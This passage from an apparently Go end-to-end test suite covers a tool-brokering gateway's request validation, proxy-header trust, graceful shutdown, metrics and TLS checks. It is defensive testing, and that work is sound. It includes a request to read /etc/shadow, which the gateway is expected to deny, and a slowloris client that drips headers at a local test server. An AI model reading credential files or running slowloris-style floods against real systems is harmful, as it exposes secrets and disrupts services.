		{"negative timeout", "/v1/exec", `{"tool":"t-echo","timeout_ms":-5}`, "timeout_ms"},
		{"zero timeout", "/v1/exec", `{"tool":"t-echo","timeout_ms":0}`, "timeout_ms"},
		{"timeout over the limit", "/v1/exec", `{"tool":"t-echo","timeout_ms":3600000}`, "timeout_ms"},
		{"trailing data", "/v1/exec", `{"tool":"t-echo"}{"tool":"t-true"}`, "more than one"},
		{"syntax error", "/v1/exec", `{"tool":`, "malformed"},
		{"empty body", "/v1/exec", ``, "empty"},
		{"not UTF-8", "/v1/files/read", "{\"path\":\"\xff\xfe\"}", "UTF-8"},
		{"array at top level", "/v1/exec", `["t-echo"]`, "body"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.auditLines())
			r := e.do("POST", c.path, tokenCI, c.body)
			if r.status != 400 {
				t.Fatalf("got status %d, want 400; body %s", r.status, r.body)
			}
			a := r.apiError(t)
			if a.Error != "invalid_request" || !strings.Contains(a.Message, c.want) {
				t.Errorf("got %q %q, want invalid_request naming %q", a.Error, a.Message, c.want)
			}
			if got := countEvents(e.auditLines()[before:]); len(got) != 0 {
				t.Errorf("got events %v, want none", got)
			}
		})
	}
	e.sweepSecrets(false)
}

// TestE2EForwardedFor checks that X-Forwarded-For counts only from a
// configured trusted proxy, by the source_ip the audit log records.
func TestE2EForwardedFor(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name    string
		proxies []string
		want    string
	}{
		{"no trusted proxies", nil, "127.0.0.1"},
		{"peer is another proxy", []string{"10.1.2.3"}, "127.0.0.1"},
		{"peer is a trusted proxy", []string{"127.0.0.1"}, "203.0.113.9"},
		{"peer in a trusted range", []string{"127.0.0.0/8"}, "203.0.113.9"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, envOptions{trustedProxies: c.proxies, noCredentials: true})
			e.do("POST", "/v1/decide", tokenCI, map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}},
				"X-Forwarded-For", "203.0.113.9", "X-Real-IP", "198.51.100.7")
			e.do("POST", "/v1/decide", "", nil, "X-Forwarded-For", "203.0.113.9", "X-Real-IP", "198.51.100.7")
			var got []string
			for _, l := range e.auditLines() {
				switch l["event"] {
				case evDecision:
					in, _ := l["input"].(map[string]any)
					sub, _ := in["subject"].(map[string]any)
					got = append(got, fmt.Sprint(sub["source_ip"]))
				case evAuth:
					got = append(got, fmt.Sprint(l["source_ip"]))
				}
			}
			if want := []string{c.want, c.want}; !slices.Equal(got, want) {
				t.Errorf("got source_ip %q (decision, auth_failure), want %q", got, want)
			}
		})
	}
}

// TestE2ESlowloris sends request headers a byte at a time and expects the
// server to drop the connection at its read-header timeout (5 s, fixed in
// server.go).
func TestE2ESlowloris(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	conn, err := net.Dial("tcp", strings.TrimPrefix(e.base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	closed := make(chan time.Duration, 1)
	start := time.Now()
	go func() {
		buf := make([]byte, 512)
		for {
			if _, err := conn.Read(buf); err != nil {
				closed <- time.Since(start)
				return
			}
		}
	}()
	head := "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + strings.Repeat("a", 200)
	var dropped time.Duration
	for i := 0; dropped == 0; i++ {
		if i < len(head) {
			_, _ = conn.Write([]byte{head[i]})
		}
		select {
		case dropped = <-closed:
		case <-time.After(250 * time.Millisecond):
			if time.Since(start) > 12*time.Second {
				t.Fatalf("connection still open after %v of slow headers, want it dropped by the read-header timeout", time.Since(start))
			}
		}
	}
	if dropped < 4*time.Second {
		t.Errorf("got the connection dropped after %v, want it to last until the 5 s read-header timeout", dropped)
	}
	// The server still answers others.
	if r := e.do("GET", "/healthz", "", nil); r.status != 200 {
		t.Errorf("got healthz %d after the slow client, want 200", r.status)
	}
}

// TestE2EGracefulShutdown shuts down with a tool run in flight: Shutdown
// waits, the client gets its answer, and new connections are refused.
func TestE2EGracefulShutdown(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	type result struct {
		r   response
		err error
	}
	done := make(chan result, 1)
	go func() {
		r, err := e.try("POST", "/v1/exec", tokenCI, map[string]any{"tool": "t-sleep", "args": []string{"2"}})
		done <- result{r, err}
	}()
	// Wait until the tool's decision is recorded, so the run is in flight.
	if !waitFor(10*time.Second, func() bool { return countEvents(e.auditLines())[evDecision] == 1 }) {
		t.Fatal("the exec request never reached the policy")
	}
	time.Sleep(200 * time.Millisecond)
	start := time.Now()
	if err := e.shutdown(15 * time.Second); err != nil {
		t.Fatalf("Shutdown: %v, want nil (the run fits the deadline)", err)
	}
	took := time.Since(start)
	res := <-done
	if res.err != nil {
		t.Fatalf("in-flight exec got %v, want its answer", res.err)
	}
	var a struct {
		ExitCode   int   `json:"exit_code"`
		DurationMS int64 `json:"duration_ms"`
	}
	res.r.decode(t, &a)
	if res.r.status != 200 || a.ExitCode != 0 || a.DurationMS < 1900 {
		t.Errorf("got status %d exit %d duration %d ms, want 200, exit 0, about 2000 ms", res.r.status, a.ExitCode, a.DurationMS)
	}
	if took < time.Second {
		t.Errorf("Shutdown returned after %v, want it to wait for the ~2 s run", took)
	}
	if got := countEvents(e.auditLines()); got[evTool] != 1 {
		t.Errorf("got events %v, want the run's tool_execution recorded", got)
	}
	if _, err := e.try("GET", "/healthz", "", nil, "Connection", "close"); err == nil {
		t.Errorf("got an answer after Shutdown, want the connection refused")
	}
	e.verifyAudit()
}

// TestE2EMetricsAndHealth checks /metrics, /healthz and /readyz answers.
func TestE2EMetricsAndHealth(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{noCredentials: true})
	e.do("POST", "/v1/decide", tokenCI, map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}})
	e.do("POST", "/v1/decide", tokenCI, map[string]any{"action": "path.read", "path": map[string]any{"requested": "/etc/shadow"}})
	e.do("POST", "/v1/decide", "", nil)
	r := e.do("GET", "/metrics", "", nil)
	for _, want := range []string{
		`clawbroker_decisions_total{action="path.read",result="allow"} 1`,
		`clawbroker_decisions_total{action="path.read",result="deny"} 1`,
		`clawbroker_auth_failures_total{reason="missing"} 1`,
		"clawbroker_decision_duration_seconds_bucket",
	} {
		if !strings.Contains(string(r.body), want) {
			t.Errorf("got /metrics without %q", want)
		}
	}
	var ready struct{ Status, Revision string }
	e.do("GET", "/readyz", "", nil).decode(t, &ready)
	if ready.Status != "ready" || ready.Revision == "" {
		t.Errorf("got readyz %+v, want ready with a revision", ready)
	}
	var health struct{ Status string }
	e.do("GET", "/healthz", "", nil).decode(t, &health)
	if health.Status != "ok" {
		t.Errorf("got healthz %+v, want ok", health)
	}
}

// TestE2ETLS serves with a certificate the test makes and checks that a
// TLS 1.2+ client is answered, a TLS 1.1 client and a plain-HTTP client
// are not.
func TestE2ETLS(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	files, pool := selfSigned(t, dir)
	e := newEnv(t, envOptions{tls: &files, noCredentials: true})
	addr := strings.TrimPrefix(e.base, "https://")

	e.client = &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	r := e.do("POST", "/v1/decide", tokenCI, map[string]any{"action": "path.read", "path": map[string]any{"requested": "hello.txt"}})
	if r.status != 200 {
		t.Errorf("got status %d over TLS, want 200", r.status)
	}

	cases := []struct {
		name string
		min  uint16
		max  uint16
		ok   bool
	}{
		{"TLS 1.3", tls.VersionTLS13, tls.VersionTLS13, true},
		{"TLS 1.2", tls.VersionTLS12, tls.VersionTLS12, true},
		{"TLS 1.1 max", tls.VersionTLS10, tls.VersionTLS11, false},
		{"TLS 1.0", tls.VersionTLS10, tls.VersionTLS10, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", addr,
				&tls.Config{RootCAs: pool, MinVersion: c.min, MaxVersion: c.max})
			if err == nil {
				conn.Close()
			}
			if (err == nil) != c.ok {
				t.Errorf("got handshake error %v, want success %v", err, c.ok)
			}
		})
	}

	t.Run("plain HTTP", func(t *testing.T) {
		plain := &http.Client{Timeout: 5 * time.Second}
		resp, err := plain.Get("http://" + addr + "/healthz")
		if err != nil {
			return
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 400 || resp.Header.Get("X-Request-ID") != "" {
			t.Errorf("got status %d with X-Request-ID %q (%s), want 400 from the TLS layer without reaching the gateway",
				resp.StatusCode, resp.Header.Get("X-Request-ID"), body)
		}
	})

	t.Run("wrong server name", func(t *testing.T) {
		_, err := tls.Dial("tcp", addr, &tls.Config{RootCAs: pool, ServerName: "evil.example"})
		if err == nil {
			t.Errorf("got a handshake for a name the certificate lacks, want an error")
		}
	})
}

// selfSigned writes a self-signed ECDSA certificate for 127.0.0.1.
func selfSigned(t *testing.T, dir string) (tlsFiles, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "clawbroker e2e"},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IPAddresses:           []net.IP{net.ParseIP("127.0.0.1")},
		BasicConstraintsValid: true,
		IsCA:                  true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	files := tlsFiles{cert: filepath.Join(dir, "cert.pem"), key: filepath.Join(dir, "key.pem")}
	mustWrite(t, files.cert, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})))
	mustWrite(t, files.key, string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER})))
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	return files, pool
}
